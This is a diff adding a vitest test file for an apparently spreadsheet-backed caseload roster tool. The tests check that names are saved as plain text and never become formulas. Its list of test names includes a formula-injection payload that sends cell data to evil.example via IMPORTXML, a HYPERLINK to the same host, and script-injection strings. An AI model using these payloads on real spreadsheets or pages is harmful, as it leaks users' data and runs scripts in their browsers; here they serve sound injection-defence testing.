@@ -1,0 +1,73 @@
+import { describe, expect, test } from 'vitest';
+import {
+  ask,
+  caseload,
+  draftOf,
+  everything,
+  handOver,
+  install,
+  keyOf,
+  setUp,
+  shown,
+  smallRoster,
+  smallRows,
+} from './installed';
+
+const NAMES = [
+  '=IMPORTXML("http://evil.example/"&A1,"//a")',
+  '=HYPERLINK("http://evil.example","Ramos")',
+  '+1',
+  '-2+3',
+  '@SUM(A1)',
+  "'quoted",
+  '<img src=x onerror=alert(1)>',
+  '</script><script>alert(1)</script>',
+  'راموس، إلينا',
+  '\u202eanelE ,somaR',
+  '😀 Emoji, Ed',
+  '1-2',
+  '0012',
+  'TRUE',
+  '3/4',
+];
+
+describe.each(NAMES)('a provider, a student and a site named %s', (name) => {
+  const rows = smallRows();
+  for (const row of rows) {
+    if (row[0] === '2000001') row[1] = name;
+    if (row[1] === name && row[11] !== '') row[11] = name;
+    row[13] = name;
+  }
+  const host = setUp(install(smallRoster('America/Chicago', rows)));
+
+  test('are text in Providers, in the record and in what the sidebar gets', () => {
+    expect(shown(host, 'Providers').map((row) => row[1])).toContain(name);
+    const own = shown(host, 'Caseload log').filter((row) => row[8] === '2000001' && row[6] === 'service');
+    expect(own.map((row) => row[9])).toEqual([name, name]);
+    expect(caseload(host, name)[0]).toMatchObject({ studentId: '2000001', student: name });
+    expect(everything(host).flatMap(({ formulas }) => formulas)).toEqual([]);
+  });
+
+  test('are put back into the roster as that text, when lines come to them', () => {
+    const [line] = caseload(host, 'Cho, Ben');
+    const input = { ...handOver(host, name, name, ''), person: keyOf(host, 'Cho, Ben') };
+    const saved = ask(host, 'save', {
+      ...input,
+      drafts: [draftOf(line, { effective: '11/21/2026', provider: keyOf(host, name) })],
+      reason: name,
+    });
+    expect(saved.saved).toBe(true);
+    expect(shown(host, 'Roster').map((row) => row[11])).toEqual([
+      'Provider',
+      name,
+      'Ramos, Elena',
+      'Elena Ramos',
+      name,
+      'Okafor, Dele',
+      '',
+    ]);
+    expect(shown(host, 'Caseload log').pop()?.[21]).toBe(name);
+    expect(everything(host).flatMap(({ formulas }) => formulas)).toEqual([]);
+    expect(ask(host, 'open', {})).toMatchObject({ stop: '', problems: [] });
+  });
+});
